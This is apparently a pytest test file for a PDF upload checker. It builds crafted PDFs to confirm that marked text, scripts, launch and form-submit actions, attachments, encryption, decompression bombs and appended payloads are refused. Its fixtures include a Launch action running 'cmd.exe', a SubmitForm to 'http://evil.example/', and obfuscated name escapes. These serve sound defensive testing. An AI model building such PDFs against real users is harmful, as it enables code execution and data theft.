"""PDF documents: what runs, carries other files, cannot be opened or is marked is refused."""

import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import FreeText
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    TextStringObject,
)

from anlan.kernel.evidence.refusal import MESSAGES, UploadRefused
from anlan.kernel.evidence.upload import check_upload, discard


def chinese_font(writer):
    """A font whose codes are UTF-16, as Chinese PDF programs declare it."""
    descendant = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Font"),
            NameObject("/Subtype"): NameObject("/CIDFontType0"),
            NameObject("/BaseFont"): NameObject("/STSong-Light"),
        }
    )
    return writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type0"),
                NameObject("/BaseFont"): NameObject("/STSong-Light"),
                NameObject("/Encoding"): NameObject("/UniGB-UTF16-H"),
                NameObject("/DescendantFonts"): ArrayObject([writer._add_object(descendant)]),
            }
        )
    )


def add_page(writer, text=""):
    """A page with one line of text."""
    page = writer.add_blank_page(width=595, height=842)
    stream = DecodedStreamObject()
    stream.set_data(f"BT /F 16 Tf 50 780 Td <{text.encode('utf-16-be').hex()}> Tj ET".encode())
    page[NameObject("/Contents")] = writer._add_object(stream)
    fonts = DictionaryObject({NameObject("/F"): chinese_font(writer)})
    page[NameObject("/Resources")] = DictionaryObject({NameObject("/Font"): fonts})
    return page


def pdf(*, pages=("研究了安全生产工作。",), change=lambda writer: None):
    """The bytes of a PDF with these pages, after ``change`` has been done to it."""
    writer = PdfWriter()
    for text in pages:
        add_page(writer, text)
    change(writer)
    stream = io.BytesIO()
    writer.write(stream)
    return stream.getvalue()


def check(content, name="纪要.pdf", declared="application/pdf"):
    return check_upload(
        name=name, content=io.BytesIO(content), declared_type=declared, cleared=True, max_bytes=10_000_000
    )


def refusal(content):
    with pytest.raises(UploadRefused) as refused:
        check(content)
    assert "Nothing was stored" in str(refused.value.message)
    return refused.value.code


ORDINARY = pdf()


def test_an_ordinary_pdf_is_taken_and_unchanged():
    content = pdf(pages=["潮州市安全生产委员会", "不得泄露商业秘密。", "完善内部管理"])
    assert PdfReader(io.BytesIO(content)).pages[0].extract_text() == "潮州市安全生产委员会"
    checked = check(content)
    assert checked.content.read() == content
    assert checked.media_type == "application/pdf"


@pytest.mark.parametrize("number", [0, 1, 4, 5])
def test_22_a_mark_on_the_first_or_last_two_pages_is_found(number):
    pages = ["正文"] * 6
    pages[number] = "机密★1年"
    assert refusal(pdf(pages=pages)) == "marked_text"


def test_22_the_message_names_the_mark_that_was_found():
    with pytest.raises(UploadRefused) as refused:
        check(pdf(pages=["秘 密"]))
    assert "秘密" in str(refused.value.message)


def xmp(writer):
    writer.xmp_metadata = "<x:xmpmeta xmlns:x='adobe:ns:meta/'><t>机密★1年</t></x:xmpmeta>".encode()


def note(writer):
    writer.add_annotation(0, FreeText(text="内部资料", rect=(1, 1, 9, 9)))


@pytest.mark.parametrize(
    "change",
    [
        lambda writer: writer.add_metadata({"/Title": "机密★1年"}),
        lambda writer: writer.add_metadata({"/Marking": "秘密"}),
        lambda writer: writer.add_outline_item(title="绝密★长期", page_number=0),
        xmp,
        note,
    ],
)
def test_22_a_mark_outside_the_pages_is_found(change):
    assert refusal(pdf(change=change)) == "marked_text"


def action(kind, **entries):
    """Runs an action when the document is opened."""

    def change(writer):
        what = {NameObject("/S"): NameObject(kind)}
        what |= {NameObject(f"/{key}"): TextStringObject(value) for key, value in entries.items()}
        writer._root_object[NameObject("/OpenAction")] = DictionaryObject(what)

    return change


SCRIPT = DictionaryObject(
    {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")}
)


def script_by_name(writer):
    scripts = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("a"), SCRIPT])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): scripts})


def script_of_a_page(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): writer._add_object(SCRIPT)})


def form(writer):
    fields = DictionaryObject({NameObject("/XFA"): TextStringObject("<xdp/>")})
    writer._root_object[NameObject("/AcroForm")] = fields


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (script_by_name, "active_content"),
        (script_of_a_page, "active_content"),
        (action("/JavaScript", JS="app.alert(1)"), "active_content"),
        (action("/Launch", F="cmd.exe"), "active_content"),
        (action("/SubmitForm", F="http://evil.example/"), "active_content"),
        (form, "active_content"),
        (lambda writer: writer.add_attachment("a.exe", b"MZ"), "embedded_files"),
        (lambda writer: writer.encrypt("secret"), "encrypted"),
        (lambda writer: writer.encrypt("", "owner"), "encrypted"),
    ],
)
def test_a_pdf_that_runs_carries_or_hides_something_is_refused(change, code):
    assert refusal(pdf(change=change)) == code


def test_a_program_under_an_escaped_name_is_refused():
    content = pdf(change=action("/JavaScript", JS="app.alert(1)"))
    assert refusal(content.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS", b"/J#53")) == "active_content"


def kept_elsewhere(writer, entries, key, times=1):
    """Moves an entry's value to an object of its own, which the entry only refers to, by so many references."""
    for _ in range(times):
        # Not by _add_object, which makes one reference of several.
        writer._objects.append(entries.raw_get(key))
        entries[NameObject(key)] = IndirectObject(len(writer._objects), 0, writer)


def action_under_an_indirect_name(writer):
    action("/Launch", F="cmd.exe")(writer)
    kept_elsewhere(writer, writer._root_object["/OpenAction"], "/S")


def attachment_under_an_indirect_type(writer):
    stream = DecodedStreamObject()
    stream.set_data(b"MZ")
    stream[NameObject("/Type")] = NameObject("/EmbeddedFile")
    kept_elsewhere(writer, stream, "/Type")
    writer._root_object[NameObject("/Extra")] = writer._add_object(stream)


def note_under_an_indirect_subtype(writer):
    note(writer)
    entries = writer.pages[0]["/Annots"][0].get_object()
    entries[NameObject("/Subtype")] = NameObject("/FileAttachment")
    entries[NameObject("/Contents")] = TextStringObject("附件")
    kept_elsewhere(writer, entries, "/Subtype")


def note_with_an_indirect_text(writer):
    writer.add_annotation(0, FreeText(text="机密★1年", rect=(1, 1, 9, 9)))
    kept_elsewhere(writer, writer.pages[0]["/Annots"][0].get_object(), "/Contents")


def property_with_an_indirect_text(writer):
    writer.add_metadata({"/Marking": "机密★1年"})
    kept_elsewhere(writer, writer._info.get_object(), "/Marking")


def action_behind_two_references(writer):
    action("/Launch", F="cmd.exe")(writer)
    kept_elsewhere(writer, writer._root_object, "/OpenAction", times=2)


def action_under_a_name_behind_two_references(writer):
    action("/Launch", F="cmd.exe")(writer)
    kept_elsewhere(writer, writer._root_object["/OpenAction"], "/S", times=2)


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (action_under_an_indirect_name, "active_content"),
        (action_behind_two_references, "damaged"),
        (action_under_a_name_behind_two_references, "damaged"),
        (attachment_under_an_indirect_type, "embedded_files"),
        (note_under_an_indirect_subtype, "embedded_files"),
        (note_with_an_indirect_text, "marked_text"),
        (property_with_an_indirect_text, "marked_text"),
    ],
)
def test_22_what_an_entry_only_refers_to_is_checked_like_the_entry(change, code):
    assert refusal(pdf(change=change)) == code


def test_a_link_to_a_page_on_the_web_is_taken():
    check(pdf(change=action("/URI", URI="https://www.gov.cn/")))


def test_a_page_of_endless_forms_is_refused():
    def change(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"/X Do " * 1_001)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream)

    assert refusal(pdf(change=change)) == "too_complex"


def test_a_pdf_that_unpacks_without_end_is_refused():
    def change(writer):
        stream = DecodedStreamObject()
        stream.set_data(b"q Q " * 6_000_000)
        writer.pages[0][NameObject("/Contents")] = writer._add_object(stream.flate_encode())

    assert refusal(pdf(change=change)) == "too_complex"


@pytest.mark.parametrize(
    "content",
    [b"%PDF-1.7\n", b"%PDF-1.7\nnonsense\n%%EOF", pdf()[:400], pdf(pages=[])],
)
def test_a_broken_pdf_is_refused(content):
    assert refusal(content) == "damaged"


@given(st.integers(min_value=9, max_value=900), st.binary(min_size=1, max_size=12))
@settings(max_examples=60)
def test_a_spoilt_pdf_is_read_or_refused_and_never_breaks_the_check(at, noise):
    spoilt = ORDINARY[:at] + noise + ORDINARY[at + len(noise) :]
    try:
        code = discard(checked=check(spoilt))
    except UploadRefused as refused:
        code = refused.code
    assert code is None or code in MESSAGES


def test_something_behind_the_end_of_a_pdf_is_refused():
    assert refusal(pdf() + b"MZ\x90\x00 and more") == "two_files_in_one"


def test_blank_bytes_behind_the_end_are_harmless():
    check(pdf() + b"\r\n\0\0")
